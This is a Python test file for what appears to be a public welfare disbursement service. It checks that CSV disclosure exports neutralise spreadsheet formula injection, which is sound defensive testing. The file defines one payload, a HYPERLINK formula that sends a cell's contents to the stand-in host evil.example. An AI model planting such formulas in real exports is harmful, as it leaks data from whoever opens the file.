"""CSV formula injection on the running services (OWASP): the public, unauthenticated disclosure and the
oversight figures never publish a cell a spreadsheet would run as a formula (R-AID-2 disclosure, R-OVS)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.factories import address, application, eventually, pending_case, review

pytestmark = pytest.mark.asyncio(loop_scope="session")
TOWNSHIP = "140303003"  # 赛鱼街道
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"采购单")'


async def in_kind_payment(client) -> dict:
    case_id, _ = await pending_case(client, application(address=address("140303", TOWNSHIP)))
    await review(client, case_id)
    decided = await client.post(
        f"/approval/v1/cases/{case_id}/decision",
        json={
            "decision": "approved",
            "actor": "approver",
            "reasons": "ok",
            "form": "in_kind",
            "confirm_extended_duration": True,
        },
    )
    assert decided.status_code == 200, decided.text

    async def payments():
        return (await client.get(f"/disbursement/v1/cases/{case_id}/payments")).json()

    return (await eventually(payments, what="the payment instruction"))[0]


async def test_a_formula_in_a_procurement_reference_is_neutralised_in_the_public_disclosure(standalone):
    goods = await in_kind_payment(standalone)
    done = await standalone.post(
        f"/disbursement/v1/payments/{goods['id']}/handover",
        json={
            "witness_name": "neighbour",
            "recipient_name": "张小明",
            "items": "rice 50kg",
            "procurement_reference": FORMULA,
        },
    )
    assert done.status_code == 200 and done.json()["status"] == "paid", done.text
    period = {"township_code": TOWNSHIP, "from": "2026-01-01", "to": "2026-12-31", "format": "csv"}
    public = httpx.AsyncClient(transport=httpx.ASGITransport(app=standalone.app), base_url="http://public")
    async with public:
        answer = await public.get("/disbursement/v1/disclosures", params=period)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    [row] = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["form"] == "in_kind"]
    assert row["procurement_reference"] == "'" + FORMULA  # shown as text, never run
    assert row["amount"] == goods["amount"]  # figures untouched
    assert not any(
        cell.startswith(("=", "+", "@", "\t", "\r"))
        for line in csv.reader(io.StringIO(answer.text))
        for cell in line
    )
